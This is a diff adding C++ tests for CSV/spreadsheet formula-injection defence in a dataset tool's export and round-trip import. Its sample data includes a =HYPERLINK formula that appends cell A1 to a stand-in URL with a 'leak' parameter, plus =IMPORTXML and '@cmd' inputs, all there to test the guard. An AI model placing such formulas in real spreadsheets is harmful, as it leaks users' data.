@@ -328,3 +328,69 @@ TEST_CASE("sheets: without meta.csv the import says so") {
     CHECK(Only(r, "meta.csv", "there is no meta.csv").row == 0);
     CHECK(ImportSheets({}).diagnostics.size() == 1);
 }
+
+//-----------------------------------------------------------------------------
+// Formulas: no exported cell runs in a spreadsheet, and import gives the text back
+//-----------------------------------------------------------------------------
+
+namespace {
+
+// Texts a dataset from anywhere may hold: formulas, and values that only look like them.
+const char* const kFormulaLike[] = {
+    "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Click\")", "=IMPORTXML(\"http://example.org\",\"//a\")",
+    "+7 701 123 4567", "-5", "+0.5", "-1e3", "-", "=", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-2+3",
+    "'=already quoted", "''=twice", "'-5", "'", "'plain", "- a list item",
+};
+
+std::string FormulaDataset() {
+    nlohmann::ordered_json institutions = nlohmann::ordered_json::array();
+    int n = 0;
+    for (const char* text : kFormulaLike)
+        institutions.push_back({{"id", "i" + std::to_string(n++)}, {"name", "Name " + std::to_string(n)},
+                                {"description", text}, {"category", std::string(text).find_first_of("\t\r") == std::string::npos ? text : "x"},
+                                {"sources", {"s"}}});
+    const nlohmann::ordered_json observations = nlohmann::ordered_json::parse(
+        R"([{"value": -5, "date": "2024", "sources": ["s"]}, {"value": -0.25, "date": "2025", "sources": ["s"]}])");
+    nlohmann::ordered_json dataset = nlohmann::ordered_json::parse(R"json({"format": "polity/1",
+        "meta": {"title": "=HYPERLINK(\"http://example.org\")", "languages": ["en"], "date": "2025", "sources": ["s"]},
+        "sources": [{"id": "s", "title": "@cmd", "publisher": "+Press", "date": "2025"}],
+        "metrics": [{"id": "m", "name": "-M", "unit": "%", "sources": ["s"]}]})json");
+    dataset["institutions"] = institutions;
+    dataset["metrics"][0]["observations"] = observations;
+    return dataset.dump(2);
+}
+
+} // namespace
+
+TEST_CASE("sheets: export writes no cell a spreadsheet would run as a formula") {
+    const std::string json = FormulaDataset();
+    REQUIRE(LoadDataset(json, "formulas.json").ok());
+    const ExportResult exported = ExportSheets(json);
+    int guarded = 0;
+    for (const CsvFile& file : exported.files) {
+        const csv::Table table = csv::Read(file.text);
+        REQUIRE(table.ok());
+        for (const csv::Record& record : table.records)
+            for (const std::string& cell : record.fields) {
+                CAPTURE(file.name);
+                CAPTURE(cell);
+                const bool plain_number = cell == "-5" || cell == "+0.5" || cell == "-1e3" || cell == "-0.25";
+                if (!cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos)
+                    CHECK(plain_number);
+                guarded += cell.size() > 1 && cell[0] == '\'' && std::string_view("=+-@\t\r").find(cell[1]) != std::string_view::npos;
+            }
+    }
+    CHECK(guarded > 10);
+}
+
+TEST_CASE("sheets: import takes the guard off again, so formulas, phones and numbers round-trip exactly") {
+    CheckRoundTrip(FormulaDataset());
+    // As a spreadsheet saves it when the editor typed the text: no guard at all.
+    const ImportResult typed = ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,=1+1,src\n"));
+    REQUIRE(typed.ok());
+    CHECK(nlohmann::json::parse(typed.json)["people"][0]["description"] == "=1+1");
+    // As export writes it, or a spreadsheet saves a cell typed with the apostrophe.
+    const ImportResult guarded = ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,'=1+1,src\n"));
+    REQUIRE(guarded.ok());
+    CHECK(nlohmann::json::parse(guarded.json)["people"][0]["description"] == "=1+1");
+}
